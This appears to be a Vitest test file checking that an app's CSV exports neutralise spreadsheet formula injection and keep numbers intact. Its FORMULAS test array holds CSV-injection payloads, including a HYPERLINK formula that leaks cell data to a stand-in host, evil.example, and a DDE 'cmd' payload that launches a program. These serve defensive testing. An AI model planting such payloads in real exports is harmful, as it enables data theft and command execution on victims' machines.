import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { csvCell, csvLine } from '../../server/lib/csv.ts'
import { createTestContext, type TestContext } from '../helpers/context.ts'

let ctx: TestContext
beforeAll(async () => {
  ctx = await createTestContext()
})
afterAll(async () => {
  await ctx?.close()
})

// Keys a spreadsheet would run as formulas when the export is opened (OWASP "CSV injection").
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '=1+2',
  '@SUM(1,2)',
  '+1+2',
  '-2+3',
  "=cmd|' /C calc'!A0",
]

async function exportCsv(path: string, cookie: string) {
  const res = await ctx.app.request(path, { headers: { cookie: `cxw_session=${cookie}` } })
  expect(res.status).toBe(200)
  return (await res.text()).replace(/^\uFEFF/, '')
}

describe('CSV exports', () => {
  it('neutralise formula-like customer keys in the assignments file, and keep them exact in the data', async () => {
    const ws = await ctx.newWorkspace()
    const test = await ws.test()
    expect((await ws.call('analyst', 'POST', `/tests/${test.id}/start`)).status).toBe(200)
    const assigned = await ws.call('analyst', 'POST', `/tests/${test.id}/assignments`, {
      customers: FORMULAS.map((customerKey) => ({ customerKey })),
    })
    expect(assigned.status, JSON.stringify(assigned.body)).toBe(200)
    const base = `/api/workspaces/${ws.slug}/tests/${test.id}/assignments`
    const text = await exportCsv(`${base}?format=csv`, ws.members.analyst.cookie)
    const rows = parse(text, { columns: true }) as Record<string, string>[]
    expect(rows.map((r) => r.customerKey).sort()).toEqual(FORMULAS.map((k) => `'${k}`).sort())
    // Every such cell is quoted, so no spreadsheet reads it as anything but text.
    for (const key of FORMULAS) expect(text).toContain(`"'${key.replace(/"/g, '""')}"`)
    const json = await ws.call('analyst', 'GET', `/tests/${test.id}/assignments`)
    expect(json.body.items.map((i: { customerKey: string }) => i.customerKey).sort()).toEqual(
      [...FORMULAS].sort(),
    )
  })

  it('neutralise formula-like ids in the deals file, and keep numbers numbers', async () => {
    const ws = await ctx.newWorkspace()
    const test = await ws.test()
    await ws.call('analyst', 'POST', `/tests/${test.id}/start`)
    await ws.call('analyst', 'POST', `/tests/${test.id}/assignments`, {
      customers: [{ customerKey: '@SUM(1,2)' }],
    })
    const sent = await ws.call('analyst', 'POST', `/tests/${test.id}/deals`, [
      {
        externalId: '=1+2',
        customerKey: '@SUM(1,2)',
        closedAt: ctx.now().toISOString(),
        converted: true,
        revenue: 12.5,
      },
    ])
    expect(sent.status, JSON.stringify(sent.body)).toBe(200)
    const text = await exportCsv(
      `/api/workspaces/${ws.slug}/tests/${test.id}/deals?format=csv`,
      ws.members.analyst.cookie,
    )
    const [row] = parse(text, { columns: true }) as Record<string, string>[]
    expect(row).toMatchObject({ externalId: "'=1+2", customerKey: "'@SUM(1,2)", revenue: '12.5' })
  })
})

describe('csvCell, the one CSV writer', () => {
  it('prefixes a quote to text starting with = + - @ tab or carriage return, and quotes it', () => {
    expect(['=1', '+1', '-1', '@A1', '\t=1', '\r=1'].map(csvCell)).toEqual([
      `"'=1"`,
      `"'+1"`,
      `"'-1"`,
      `"'@A1"`,
      `"'\t=1"`,
      `"'\r=1"`,
    ])
  })

  it('writes numbers as numbers, negative ones too, and leaves ordinary text alone', () => {
    expect(csvLine([-12.5, 0, 3, -0.001, 'plain', 'a,b', null, true])).toBe(
      '-12.5,0,3,-0.001,plain,"a,b",,true\r\n',
    )
  })
})
